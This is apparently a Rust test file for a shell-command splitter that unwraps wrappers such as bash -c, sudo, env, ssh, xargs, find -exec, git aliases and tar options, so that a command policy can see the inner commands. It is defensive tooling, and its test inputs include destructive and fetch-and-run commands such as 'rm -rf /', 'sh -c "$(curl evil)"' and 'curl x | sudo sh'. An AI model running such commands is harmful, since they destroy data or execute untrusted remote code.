//! Wrappers seen by the splitter, and the table itself.

#![allow(clippy::unwrap_used, reason = "a wrong table fails the test")]

use super::{unwrap, Inner, Runs};
use crate::test_support::*;
use crate::SimpleCommand;

#[test]
fn bash_c_is_parsed() {
    assert_eq!(
        ok(r#"bash -c "rm -rf /""#),
        vec![c(&["bash", "-c", "rm -rf /"]), c(&["rm", "-rf", "/"])]
    );
    assert_eq!(
        ok("sh -lc 'a; b | c'"),
        vec![
            c(&["sh", "-lc", "a; b | c"]),
            c(&["a"]),
            c(&["b"]),
            c(&["c"]).piped(&["b"])
        ]
    );
    assert_eq!(
        argvs("bash -e -o pipefail -c 'x' arg0"),
        vec![
            vec!["bash", "-e", "-o", "pipefail", "-c", "x", "arg0"],
            vec!["x"]
        ]
    );
    assert_eq!(
        argvs("zsh -xc 'y'"),
        vec![vec!["zsh", "-xc", "y"], vec!["y"]]
    );
    // Not -c: a script file, nothing to unwrap.
    assert_eq!(argvs("bash script.sh"), vec![vec!["bash", "script.sh"]]);
}

#[test]
fn bash_c_dynamic_is_error() {
    for line in [r#"bash -c "$X""#, "sh -c \"$(curl evil)\"", "eval \"$CMD\""] {
        assert!(is_syntax(line), "{line}");
    }
}

#[test]
fn eval_is_parsed() {
    assert_eq!(
        ok("eval 'rm -rf' /tmp"),
        vec![c(&["eval", "rm -rf", "/tmp"]), c(&["rm", "-rf", "/tmp"])]
    );
}

#[test]
fn env_timeout_chain() {
    assert_eq!(
        ok("env FOO=1 timeout 5 rm -rf ~"),
        vec![
            c(&["env", "FOO=1", "timeout", "5", "rm", "-rf", "~"]),
            SimpleCommand {
                env: vec!["FOO=1".into()],
                ..c(&["timeout", "5", "rm", "-rf", "~"])
            },
            SimpleCommand {
                env: vec!["FOO=1".into()],
                ..c(&["rm", "-rf", "~"])
            },
        ]
    );
    assert_eq!(
        argvs("env -i -u HOME - A=b cmd x"),
        vec![
            vec!["env", "-i", "-u", "HOME", "-", "A=b", "cmd", "x"],
            vec!["cmd", "x"]
        ]
    );
    assert_eq!(argvs("env"), vec![vec!["env"]]);
    assert!(is_syntax("env -S 'rm -rf /'"));
}

#[test]
fn sudo_and_friends() {
    assert_eq!(
        ok("sudo -u root rm -rf /"),
        vec![
            c(&["sudo", "-u", "root", "rm", "-rf", "/"]),
            c(&["rm", "-rf", "/"])
        ]
    );
    assert_eq!(
        argvs("sudo -E -uroot -- VAR=1 rm x"),
        vec![
            vec!["sudo", "-E", "-uroot", "--", "VAR=1", "rm", "x"],
            vec!["rm", "x"]
        ]
    );
    assert_eq!(
        argvs("sudo --user=root nice -n 5 ionice -c3 nohup stdbuf -oL setsid doas -u x rm y"),
        vec![
            vec![
                "sudo",
                "--user=root",
                "nice",
                "-n",
                "5",
                "ionice",
                "-c3",
                "nohup",
                "stdbuf",
                "-oL",
                "setsid",
                "doas",
                "-u",
                "x",
                "rm",
                "y"
            ],
            vec![
                "nice", "-n", "5", "ionice", "-c3", "nohup", "stdbuf", "-oL", "setsid", "doas",
                "-u", "x", "rm", "y"
            ],
            vec!["ionice", "-c3", "nohup", "stdbuf", "-oL", "setsid", "doas", "-u", "x", "rm", "y"],
            vec!["nohup", "stdbuf", "-oL", "setsid", "doas", "-u", "x", "rm", "y"],
            vec!["stdbuf", "-oL", "setsid", "doas", "-u", "x", "rm", "y"],
            vec!["setsid", "doas", "-u", "x", "rm", "y"],
            vec!["doas", "-u", "x", "rm", "y"],
            vec!["rm", "y"],
        ]
    );
    assert_eq!(
        argvs("nice -10 rm a"),
        vec![vec!["nice", "-10", "rm", "a"], vec!["rm", "a"]]
    );
    assert_eq!(
        argvs("sudo -e /etc/hosts"),
        vec![vec!["sudo", "-e", "/etc/hosts"]]
    );
    assert!(is_syntax("sudo --frobnicate rm x"));
}

#[test]
fn command_exec_builtin_time() {
    assert_eq!(
        argvs("command -p rm x"),
        vec![vec!["command", "-p", "rm", "x"], vec!["rm", "x"]]
    );
    assert_eq!(argvs("command -v rm"), vec![vec!["command", "-v", "rm"]]);
    assert_eq!(
        argvs("exec -a name rm x"),
        vec![vec!["exec", "-a", "name", "rm", "x"], vec!["rm", "x"]]
    );
    assert_eq!(
        argvs("builtin cd /"),
        vec![vec!["builtin", "cd", "/"], vec!["cd", "/"]]
    );
    assert_eq!(
        argvs("time -p rm x"),
        vec![vec!["time", "-p", "rm", "x"], vec!["rm", "x"]]
    );
    assert_eq!(
        argvs("chrt -f 10 rm x; chrt -p 5 123"),
        vec![
            vec!["chrt", "-f", "10", "rm", "x"],
            vec!["rm", "x"],
            vec!["chrt", "-p", "5", "123"]
        ]
    );
    assert_eq!(
        argvs("timeout -s KILL --kill-after=3 10 rm x"),
        vec![
            vec!["timeout", "-s", "KILL", "--kill-after=3", "10", "rm", "x"],
            vec!["rm", "x"]
        ]
    );
}

#[test]
fn inner_command_inherits_pipe_and_writes() {
    assert_eq!(
        ok("curl x | sudo sh > log"),
        vec![
            c(&["curl", "x"]),
            c(&["sudo", "sh"]).piped(&["curl"]).writes(&["log"]),
            c(&["sh"]).piped(&["curl"]).writes(&["log"]),
        ]
    );
    assert_eq!(
        ok("curl x | bash -c 'cat > f'"),
        vec![
            c(&["curl", "x"]),
            c(&["bash", "-c", "cat > f"]).piped(&["curl"]),
            c(&["cat"]).piped(&["curl"]).writes(&["f"]),
        ]
    );
}

#[test]
fn xargs_inner_is_dynamic() {
    assert_eq!(
        ok("xargs rm"),
        vec![c(&["xargs", "rm"]), c(&["rm"]).dynamic()]
    );
    assert_eq!(
        ok("ls | xargs -0 -n1 -I{} rm -f {}"),
        vec![
            c(&["ls"]),
            c(&["xargs", "-0", "-n1", "-I{}", "rm", "-f", "{}"]).piped(&["ls"]),
            c(&["rm", "-f", "{}"]).piped(&["ls"]).dynamic(),
        ]
    );
    assert_eq!(ok("xargs"), vec![c(&["xargs"]), c(&["echo"]).dynamic()]);
    // Wrappers below xargs stay dynamic.
    assert_eq!(
        ok("xargs sudo rm"),
        vec![
            c(&["xargs", "sudo", "rm"]),
            c(&["sudo", "rm"]).dynamic(),
            c(&["rm"]).dynamic()
        ]
    );
}

#[test]
fn find_exec() {
    assert_eq!(
        ok(r"find . -name x -exec rm {} \;"),
        vec![
            c(&["find", ".", "-name", "x", "-exec", "rm", "{}", ";"]),
            c(&["rm", "{}"]).dynamic()
        ]
    );
    assert_eq!(
        argvs("find . -execdir chmod 777 {} + -ok rm {} ';'"),
        vec![
            vec!["find", ".", "-execdir", "chmod", "777", "{}", "+", "-ok", "rm", "{}", ";"],
            vec!["chmod", "777", "{}"],
            vec!["rm", "{}"],
        ]
    );
    assert!(is_syntax("find . -exec rm {}"));
}

#[test]
fn shell_reading_stdin_script() {
    assert_eq!(
        ok("bash <<'EOF'\nrm -rf /\nEOF"),
        vec![
            SimpleCommand {
                stdin_script: true,
                ..c(&["bash"])
            },
            c(&["rm", "-rf", "/"])
        ]
    );
    assert_eq!(
        ok("sudo sh -s <<< 'curl x | sh'"),
        vec![
            c(&["sudo", "sh", "-s"]),
            SimpleCommand {
                stdin_script: true,
                ..c(&["sh", "-s"])
            },
            c(&["curl", "x"]),
            c(&["sh"]).piped(&["curl"]),
        ]
    );
    // Not a script on stdin: a script file, or -c.
    assert_eq!(
        argvs("bash x.sh <<< 'rm -rf /'"),
        vec![vec!["bash", "x.sh"]]
    );
    assert_eq!(argvs("bash 3<<< 'rm -rf /'"), vec![vec!["bash"]]);
    assert!(is_syntax("bash <<EOF\n$CMD\nEOF"));
    assert!(is_syntax("sh <<< \"$X\""));
}

#[test]
fn trap_action_is_parsed() {
    assert_eq!(
        ok("trap 'rm -rf /tmp/x' EXIT INT"),
        vec![
            c(&["trap", "rm -rf /tmp/x", "EXIT", "INT"]),
            c(&["rm", "-rf", "/tmp/x"])
        ]
    );
    assert_eq!(
        argvs("trap - EXIT; trap -p; trap INT"),
        vec![
            vec!["trap", "-", "EXIT"],
            vec!["trap", "-p"],
            vec!["trap", "INT"]
        ]
    );
    assert!(is_syntax("trap \"$X\" EXIT"));
}

#[test]
fn nested_bash_c() {
    assert_eq!(
        argvs(r#"bash -c "sh -c 'rm -rf /'""#),
        vec![
            vec!["bash", "-c", "sh -c 'rm -rf /'"],
            vec!["sh", "-c", "rm -rf /"],
            vec!["rm", "-rf", "/"]
        ]
    );
}

// ----- the table itself -------------------------------------------------

fn inner_argvs(line: &str) -> Vec<Vec<String>> {
    let argv = words(line);
    let w = unwrap(&argv, &[]).unwrap().unwrap_or_default();
    w.inners
        .into_iter()
        .map(|i| match i {
            Inner::Argv { range, .. } => argv.get(range).unwrap().to_vec(),
            Inner::Literal { argv, .. } => argv,
            Inner::Script(s) => vec![s],
        })
        .collect()
}

#[test]
fn dynamic_program_is_no_wrapper() {
    let argv = words("sudo rm x");
    assert_eq!(unwrap(&argv, &[true, false, false]), Ok(None));
    assert_eq!(unwrap(&words("rm x"), &[]), Ok(None));
}

#[test]
fn busybox_runs_its_applet() {
    assert_eq!(inner_argvs("busybox rm f"), [words("rm f")]);
    assert!(inner_argvs("busybox --list").is_empty());
}

#[test]
fn side_effects_of_wrappers_are_reported() {
    let argv = words("env -C sub sudo -D /etc time -o t.log rm x");
    let w = unwrap(&argv, &[]).unwrap().unwrap();
    assert_eq!(w.chdirs, ["sub"]);
    let argv = words("time -o t.log rm x");
    assert_eq!(unwrap(&argv, &[]).unwrap().unwrap().writes, ["t.log"]);
    let argv = words("sudo -e /etc/hosts");
    let w = unwrap(&argv, &[]).unwrap().unwrap();
    assert_eq!((w.edits, w.inners), (vec!["/etc/hosts"], vec![]));
}

#[test]
fn find_exec_runs_per_found_file() {
    let argv = words("find . -execdir rm {} ;");
    let w = unwrap(&argv, &[]).unwrap().unwrap();
    assert_eq!(
        w.inners,
        [Inner::Argv {
            range: 3..5,
            runs: Runs::PerFoundFile { in_its_dir: true }
        }]
    );
    assert!(unwrap(&words("find . -exec rm x"), &[]).is_err());
    assert!(unwrap(&words("find . -exec ;"), &[]).is_err());
}

// ----- where the two former wrapper tables disagreed -----------------------
// The splitter and the file model each had a wrapper table; these cases pin the
// stricter behaviour both now share (the file model's side is in
// `touches/cases/merged_wrapper_tables.cases`).

#[test]
fn busybox_applets_are_seen_by_the_splitter() {
    // Only the file model unwrapped busybox: the splitter reported `busybox` alone,
    // so a policy on `rm` or `sh -c` never saw these.
    assert_eq!(
        argvs("busybox rm -rf /"),
        vec![words("busybox rm -rf /"), words("rm -rf /")]
    );
    assert_eq!(
        argvs("/bin/busybox sh -c 'rm x'"),
        vec![
            vec!["/bin/busybox", "sh", "-c", "rm x"],
            vec!["sh", "-c", "rm x"],
            vec!["rm", "x"]
        ]
    );
    assert_eq!(argvs("busybox --list"), vec![words("busybox --list")]);
}

#[test]
fn long_option_abbreviations_of_wrappers_are_resolved() {
    // getopt_long takes an unambiguous abbreviation: the file model knew, the
    // splitter failed on `--kill` and so never saw `rm`.
    assert_eq!(
        argvs("timeout --kill 3 10 rm x"),
        vec![words("timeout --kill 3 10 rm x"), words("rm x")]
    );
    assert_eq!(
        argvs("sudo --us root rm x"),
        vec![words("sudo --us root rm x"), words("rm x")]
    );
    // Ambiguous (`--preserve-env`, `--preserve-groups`): where `rm` starts is unknown.
    assert!(is_syntax("sudo --preserve rm x"));
}

#[test]
fn find_exec_needs_a_terminated_command() {
    // The file model read an unterminated or empty `-exec` as a command; both are
    // now unanalysable, as they were for the splitter.
    assert!(is_syntax("find . -exec ;"));
    assert!(is_syntax("find . -exec rm x"));
}

// ----- programs that carry a command, unwrapped for the splitter ------------

#[test]
fn remote_and_session_wrappers_report_their_commands() {
    // ssh joins its command words into one line for the remote shell.
    assert_eq!(
        argvs("ssh -p 22 user@host rm -rf /tmp/x"),
        vec![
            vec!["ssh", "-p", "22", "user@host", "rm", "-rf", "/tmp/x"],
            vec!["rm", "-rf", "/tmp/x"]
        ]
    );
    assert_eq!(
        argvs("ssh host 'curl x | sh'"),
        vec![
            vec!["ssh", "host", "curl x | sh"],
            vec!["curl", "x"],
            vec!["sh"]
        ]
    );
    // Options after the destination are ssh's too.
    assert_eq!(
        argvs("ssh host -t rm x"),
        vec![vec!["ssh", "host", "-t", "rm", "x"], vec!["rm", "x"]]
    );
    assert_eq!(
        argvs("ssh -o 'ProxyCommand=nc %h %p' host ls"),
        vec![
            vec!["ssh", "-o", "ProxyCommand=nc %h %p", "host", "ls"],
            vec!["nc", "%h", "%p"],
            vec!["ls"]
        ]
    );
    assert_eq!(argvs("ssh host"), vec![vec!["ssh", "host"]]);
    assert!(is_syntax("ssh -Z host rm x"));
    assert_eq!(
        argvs("su -c 'rm -rf /' root"),
        vec![vec!["su", "-c", "rm -rf /", "root"], vec!["rm", "-rf", "/"]]
    );
    assert_eq!(
        argvs("su root -c 'rm x'"),
        vec![vec!["su", "root", "-c", "rm x"], vec!["rm", "x"]]
    );
    assert_eq!(
        argvs("runuser -u nobody -- rm x"),
        vec![
            vec!["runuser", "-u", "nobody", "--", "rm", "x"],
            vec!["rm", "x"]
        ]
    );
    assert_eq!(
        argvs("script -qc 'rm x' /dev/null"),
        vec![vec!["script", "-qc", "rm x", "/dev/null"], vec!["rm", "x"]]
    );
    assert_eq!(
        argvs("fish -c 'rm x'"),
        vec![vec!["fish", "-c", "rm x"], vec!["rm", "x"]]
    );
    assert_eq!(
        argvs("busybox sh -c 'rm x'"),
        vec![
            vec!["busybox", "sh", "-c", "rm x"],
            vec!["sh", "-c", "rm x"],
            vec!["rm", "x"]
        ]
    );
}

#[test]
fn process_wrappers_report_their_commands() {
    for (line, inner) in [
        ("watch -n 1 rm x", "rm x"),
        ("watch -x rm x", "rm x"),
        ("flock /tmp/l rm x", "rm x"),
        ("taskset -c 0 rm x", "rm x"),
        ("taskset 0x1 rm x", "rm x"),
        ("strace -f -o t rm x", "rm x"),
        ("ltrace -o t rm x", "rm x"),
        ("fakeroot -- rm x", "rm x"),
        ("systemd-run --user --scope rm x", "rm x"),
        ("unshare -rm rm x", "rm x"),
        ("nsenter -t 1 -m rm x", "rm x"),
        ("chroot /mnt rm x", "rm x"),
        ("unbuffer rm x", "rm x"),
        ("caffeinate -i rm x", "rm x"),
        ("firejail --net=none rm x", "rm x"),
        ("setsid -w rm x", "rm x"),
    ] {
        let got = argvs(line);
        assert_eq!(got.last(), Some(&words(inner)), "{line}: {got:?}");
        assert_eq!(got.len(), 2, "{line}: {got:?}");
    }
    assert_eq!(
        argvs("flock -n /tmp/l -c 'rm x'"),
        vec![vec!["flock", "-n", "/tmp/l", "-c", "rm x"], vec!["rm", "x"]]
    );
    assert_eq!(
        argvs("taskset -p 1 123"),
        vec![vec!["taskset", "-p", "1", "123"]]
    );
    assert_eq!(argvs("flock 9"), vec![vec!["flock", "9"]]);
}

#[test]
fn parallel_runs_its_command_per_argument() {
    assert_eq!(
        ok("parallel rm ::: a b"),
        vec![
            c(&["parallel", "rm", ":::", "a", "b"]),
            c(&["rm"]).dynamic()
        ]
    );
    assert_eq!(
        argvs("parallel 'rm {} && echo ok' ::: a"),
        vec![
            vec!["parallel", "rm {} && echo ok", ":::", "a"],
            vec!["rm", "{}"],
            vec!["echo", "ok"]
        ]
    );
    assert!(is_syntax("parallel --frobnicate rm ::: a"));
}

#[test]
fn option_values_run_by_a_shell_are_reported() {
    assert_eq!(
        argvs("git -c alias.x='!rm -rf ~' x"),
        vec![
            vec!["git", "-c", "alias.x=!rm -rf ~", "x"],
            vec!["rm", "-rf", "~"]
        ]
    );
    // An alias that is not run, or not a shell alias, runs nothing.
    assert_eq!(argvs("git -c alias.x='!rm' status").len(), 1);
    assert_eq!(argvs("git -c alias.x=log x").len(), 1);
    assert_eq!(
        argvs("tar -I 'zstd -19' -cf a.tar.zst d"),
        vec![
            vec!["tar", "-I", "zstd -19", "-cf", "a.tar.zst", "d"],
            vec!["zstd", "-19"]
        ]
    );
    assert_eq!(
        argvs("tar --to-command='sh -c x' -xf a.tar"),
        vec![
            vec!["tar", "--to-command=sh -c x", "-xf", "a.tar"],
            vec!["sh", "-c", "x"],
            vec!["x"]
        ]
    );
    assert_eq!(
        argvs("tar --checkpoint-action=exec='rm x' -cf a d"),
        vec![
            vec!["tar", "--checkpoint-action=exec=rm x", "-cf", "a", "d"],
            vec!["rm", "x"]
        ]
    );
    assert_eq!(
        argvs("rsync -avze 'ssh -p 2' a host:b"),
        vec![
            vec!["rsync", "-avze", "ssh -p 2", "a", "host:b"],
            vec!["ssh", "-p", "2"]
        ]
    );
    assert_eq!(
        argvs("rsync --rsh='ssh -i k' a host:b"),
        vec![
            vec!["rsync", "--rsh=ssh -i k", "a", "host:b"],
            vec!["ssh", "-i", "k"]
        ]
    );
    // `-f` takes a filter: its `e` is not `-e`.
    assert_eq!(argvs("rsync -f'- .e' a b").len(), 1);
}

#[test]
fn wrappers_report_their_own_options_normalised() {
    let argv = words("sudo -u root -E rm x");
    let w = unwrap(&argv, &[]).unwrap().unwrap();
    assert_eq!(w.options, ["-u=root", "-E"]);
    let argv = words("timeout --kill 3 10 rm x");
    let w = unwrap(&argv, &[]).unwrap().unwrap();
    assert_eq!(w.options, ["--kill-after=3"]);
    let argv = words("ssh -p 22 host ls");
    let w = unwrap(&argv, &[]).unwrap().unwrap();
    assert_eq!(
        (w.options, w.network),
        (vec!["-p=22".to_string()], vec!["host"])
    );
}

#[test]
fn commands_git_runs_are_reported() {
    assert_eq!(
        argvs("git rebase --exec 'rm x' main"),
        vec![
            vec!["git", "rebase", "--exec", "rm x", "main"],
            vec!["rm", "x"]
        ]
    );
    assert_eq!(
        argvs("git rebase -x 'rm x' main"),
        vec![vec!["git", "rebase", "-x", "rm x", "main"], vec!["rm", "x"]]
    );
    assert_eq!(
        argvs("git filter-branch --tree-filter 'rm -f secret' HEAD"),
        vec![
            vec![
                "git",
                "filter-branch",
                "--tree-filter",
                "rm -f secret",
                "HEAD"
            ],
            vec!["rm", "-f", "secret"]
        ]
    );
    assert_eq!(
        argvs("git bisect run rm x"),
        vec![vec!["git", "bisect", "run", "rm", "x"], vec!["rm", "x"]]
    );
    assert_eq!(
        argvs("git submodule foreach --recursive 'rm x'"),
        vec![
            vec!["git", "submodule", "foreach", "--recursive", "rm x"],
            vec!["rm", "x"]
        ]
    );
}

#[test]
fn clustered_flags_of_new_wrappers() {
    assert_eq!(argvs("unshare -Ur rm x").last(), Some(&words("rm x")));
    assert_eq!(argvs("parallel -kj4 rm ::: a").len(), 2);
    assert_eq!(argvs("ssh -tt -vvv host rm x").last(), Some(&words("rm x")));
    assert_eq!(argvs("su - root -c 'rm x'").last(), Some(&words("rm x")));
    assert_eq!(
        argvs("strace -ff -s 200 -e trace=file rm x").last(),
        Some(&words("rm x"))
    );
}

#[test]
fn project_runners_report_their_commands() {
    for line in [
        "uv run --with pandas rm x",
        "uv run -p 3.12 rm x",
        "poetry run rm x",
        "pipenv run rm x",
        "pdm run rm x",
        "bundle exec rm x",
        "conda run -n env rm x",
    ] {
        let got = argvs(line);
        assert_eq!(got.last(), Some(&words("rm x")), "{line}: {got:?}");
    }
    assert_eq!(
        argvs("uv run python -c 'import os'"),
        vec![
            vec!["uv", "run", "python", "-c", "import os"],
            vec!["python", "-c", "import os"]
        ]
    );
    assert_eq!(argvs("uv pip install x").len(), 1);
    assert!(is_syntax("uv run --frobnicate rm x"));
}
